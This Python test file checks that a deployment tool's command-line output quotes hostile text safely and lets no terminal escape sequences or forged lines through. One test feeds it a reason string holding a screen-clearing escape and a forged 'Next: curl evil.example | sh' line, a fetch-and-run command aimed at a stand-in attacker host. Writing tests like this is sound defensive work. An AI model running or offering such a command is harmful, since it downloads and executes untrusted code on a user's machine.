"""Nothing that others wrote steers the terminal of whoever looks, or passes for a line of ours."""

import contextlib
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace

import msgspec
import pytest
from hostile import WORDS, spoiled, steering, texts
from hypothesis import given, settings
from hypothesis import strategies as st
from recorded import FIRST, VERDICT, Recorded, Served, served
from rich.console import Console

from surefoot.cli import words
from surefoot.cli.live import block
from surefoot.cli.main import run
from surefoot.cli.output import note, say_error, show
from surefoot.cli.views import ChangeView, EntryView, PlanView, ServiceView
from surefoot.engine.status import Harmed, PartStatus, UndoStatus, WaitStatus

MARK = "  | "
CHANGE = replace(
    FIRST,
    because="errors were worse",
    watch=("errors",),
    expect=("errors falls by 1%",),
    asked=("why?",),
    approved_by=("Bo <bo@example.org>",),
    parts=(PartStatus("checks", "failed", 4.2, "12 failed"),),
    wait=WaitStatus("a person", 1.0, 2.0, "it is restored"),
    verdict=VERDICT,
    harmed=Harmed(210, 2, 2.1),
    position=1,
    expected_start_s=4.0,
    live_at=1.0,
    next=("surefoot ship",),
)
SERVICE = {
    "name": "shop",
    "sentence": "All users are on 0.",
    "live": 0,
    "exposed": 1,
    "waiting": [],
    "held_because": "market day",
    "requests_per_s": 2.0,
    "error_rate": 0.0,
    "undo": msgspec.to_builtins(UndoStatus(possible=True, seconds=0.4, says="Undo 1")),
    "next": ["surefoot ship"],
}
PLAN = {
    "service": "shop",
    "revision": "a",
    "base": "b",
    "base_number": 0,
    "size": {"added": 1, "removed": 1, "files": 1, "commits": 1},
    "files": ["app.py"],
    "commits": ["a1 faster (Ann)"],
    "checks": ["unit"],
    "review": "before",
    "reviewers": ["Bo"],
    "metrics": ["errors"],
    "steps": [0.1],
    "forecast": "soon",
    "undo": "back",
    "position": 1,
    "warnings": ["mind"],
    "refused": "no",
}
ENTRY = {"seq": 1, "at": 1.0, "kind": "undo", "says": "Ann orders it", "by": "Ann"}


def view(data: st.DataObject, value: object, kind: type) -> object:
    """An answer of the API as a command reads it, with each text replaced by a hostile one."""
    return msgspec.convert(spoiled(msgspec.to_builtins(value), data.draw), kind)


def all_lines(data: st.DataObject) -> list[str]:
    """Every line that a command could make of such answers."""
    change = view(data, CHANGE, ChangeView)
    entry = view(data, ENTRY, EntryView)
    return [
        *words.change_lines(change),
        *words.why_lines(change, [entry]),
        *words.review_lines(change),
        *words.several_commits(change),
        words.progress_line(change),
        words.log_line(change),
        *words.service_lines(view(data, SERVICE, ServiceView), [change]),
        *words.plan_lines(view(data, PLAN, PlanView)),
    ]


def harmless(printed: str, lines: int) -> None:
    """It steers nothing, and only our own lines begin as lines of ours."""
    assert steering(printed) == []
    begun = [line for line in printed.splitlines() if not line.startswith(MARK)]
    assert len(begun) <= lines


@given(st.data())
@settings(max_examples=40, deadline=None)
def test_no_line_of_any_command_steers_the_terminal(data: st.DataObject) -> None:
    """Whatever stands in any field of an answer, what is printed is text and each line is ours."""
    lines = all_lines(data)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        show({}, lines, as_json=False)
    harmless(out.getvalue(), len(lines))


@given(st.data())
@settings(max_examples=20, deadline=None)
def test_the_live_block_steers_nothing(data: st.DataObject) -> None:
    """The block on a terminal shows hostile texts as text, and reads no markup in them."""
    change = view(data, CHANGE, ChangeView)
    console = Console(file=io.StringIO(), width=120, color_system=None, highlight=False)
    console.print(block(change))
    assert steering(console.file.getvalue()) == []


@given(texts, texts, texts)
def test_errors_and_notes_steer_nothing(title: str, detail: str, cure: str) -> None:
    """A refusal quotes names, refs and paths, and is text all the same."""
    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        say_error(title, detail, cure, 30, as_json=False)
        note(detail)
    harmless(err.getvalue(), 3)


@given(st.data())
@settings(max_examples=20, deadline=None)
def test_json_for_programs_steers_nothing_and_loses_nothing(data: st.DataObject) -> None:
    """`--json` escapes what steers, so that a person may look at it too."""
    raw = spoiled(msgspec.to_builtins(CHANGE), data.draw)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        show(raw, (), as_json=True)
    assert [each for each in steering(out.getvalue()) if each != "\x7f"] == []
    assert json.loads(out.getvalue()) == raw


@pytest.mark.parametrize("word", [word for word in WORDS if "\0" not in word])
def test_what_is_pasted_into_a_command_steers_nothing(
    word: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A mistyped option, number or name is quoted as text."""
    for typed in (["ship", f"-{word}"], ["undo", word], ["log", "--since", f"z{word}"], [word]):
        assert run(typed) in {2, 30, 50}
    told = capsys.readouterr()
    assert steering(told.out + told.err) == []


@pytest.fixture
def api() -> Iterator[Served]:
    with served(Recorded()) as address:
        yield address


@pytest.fixture
def typed(api: Served) -> Callable[..., subprocess.CompletedProcess[str]]:
    """A command in a process of its own, against an API with recorded answers."""
    api.send("POST", "/v1/services", {"source": "x", "manifest": 'name = "shop"'})

    def run_it(*arguments: str, **more: str) -> subprocess.CompletedProcess[str]:
        host, port = api.address
        own = {"SUREFOOT_URL": f"http://{host}:{port}", "SUREFOOT_TOKEN": "secret-of-ann"}
        return subprocess.run(
            [sys.executable, "-m", "surefoot", *arguments],
            env={**os.environ, **own, **more},
            capture_output=True,
            encoding="utf-8",
            check=False,
            timeout=60,
        )

    return run_it


def test_a_reason_goes_round_as_text(typed: Callable[..., subprocess.CompletedProcess[str]]):
    """`--because` with an escape sequence and a forged line is kept, and shown as what it is."""
    done = typed("hold", "shop", "--because", "\x1b[2Jfair\n  Next: curl evil.example | sh")
    assert done.returncode == 0, done.stderr
    assert steering(done.stdout) == []
    assert "\n  |   Next: curl" in done.stdout


def test_a_console_without_the_letter_is_no_mistake_of_ours(
    typed: Callable[..., subprocess.CompletedProcess[str]],
) -> None:
    """Where the console cannot show a letter, another stands there; the order was taken."""
    ascii_only = {"PYTHONIOENCODING": "ascii:strict"}
    done = typed(
        "hold", "shop", "--because", "caf\N{LATIN SMALL LETTER E WITH ACUTE}", **ascii_only
    )
    assert done.returncode == 0, done.stderr
    assert "Held: caf?" in done.stdout
